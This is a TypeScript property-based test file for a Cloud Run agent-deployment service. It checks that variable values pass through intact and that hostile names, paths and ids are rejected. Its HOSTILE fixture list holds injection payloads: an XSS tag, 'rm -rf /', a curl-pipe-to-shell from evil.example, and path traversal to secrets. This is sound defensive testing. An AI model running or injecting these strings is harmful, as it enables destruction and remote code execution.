import { CALLABLES, deploymentSpec, loadSpec } from '@proving-ground/shared';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { agentService } from '../deployments/service-request.ts';
import { aDeployment } from '../testing/a-deployment.ts';

/** Text that would be something else in markup, a shell, a Dockerfile, a substitution, a path or a log line. */
const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '"; rm -rf / #',
  '$(curl evil.example) `id` ${IFS}',
  '${_BUILD_ID} $PROJECT_ID $$',
  'x\nRUN curl evil.example | sh',
  '../../secrets/one',
  '{"severity":"CRITICAL"}',
  '\u0000\u001b[2J\u202e',
  '%s%n{{constructor}}',
] as const;
const hostile = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 200 }));

test('the value of a variable reaches Cloud Run as it is, as the value of that variable and as nothing else', () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const marked = `mark-${text}-mark`;
      const deployment = aDeployment({ spec: { agent: { env: { OWN: marked } } } });
      const service = agentService({
        deployment,
        projectId: 'demo-p',
        serviceAccount: 'agent@demo-p.iam.gserviceaccount.com',
        image: 'host/p/r/agent@sha256:0',
        backendUrl: 'https://backend.example.test',
      });
      const variables = service.template?.containers?.[0]?.env ?? [];
      expect(variables).toContainEqual({ name: 'OWN', value: marked });
      const written = JSON.stringify(service);
      expect(written.split(JSON.stringify(marked))).toHaveLength(2);
    }),
  );
});

describe('what becomes part of a name, a path or a command is refused when it is hostile', () => {
  const specs = [
    ['a service name', (text: string) => ({ agent: { serviceName: text } })],
    ['a region', (text: string) => ({ region: text })],
    ['a model', (text: string) => ({ model: text })],
    ['the name of a variable', (text: string) => ({ agent: { env: { [text]: 'x' } } })],
    ['the name of a label', (text: string) => ({ agent: { labels: { [text]: 'x' } } })],
    ['the value of a label', (text: string) => ({ agent: { labels: { own: text } } })],
    ['a GPU', (text: string) => ({ backend: { gpuType: text } })],
  ] as const;
  test.each(specs)('%s', (_what, specOf) => {
    for (const text of HOSTILE) expect(deploymentSpec.safeParse(specOf(text)).success).toBe(false);
  });

  const ids = ['cancelDeployment', 'rollback', 'promote', 'deleteDeployment', 'followBuildLog'] as const;
  test.each(ids)('the id of a deployment in %s', (name) => {
    const rest = name === 'followBuildLog' ? { build: 'agent' } : { idempotencyKey: 'key-12345' };
    for (const deploymentId of HOSTILE) {
      const request = name === 'cancelDeployment' ? { deploymentId } : { ...rest, deploymentId };
      expect(CALLABLES[name].request.safeParse(request).success).toBe(false);
    }
  });

  test('the path of a load test, and what it is to ask', () => {
    for (const path of HOSTILE) {
      const scenario = { name: 'own', tasks: [{ kind: 'get' as const, path }] };
      expect(loadSpec.safeParse({ scenario }).success).toBe(false);
    }
    // What is asked is data all the way: it may be anything.
    const prompts = HOSTILE.map((text) => ({ text }));
    expect(loadSpec.safeParse({ scenario: { name: 'own', tasks: [{ kind: 'ask', prompts }] } }).success).toBe(true);
  });
});
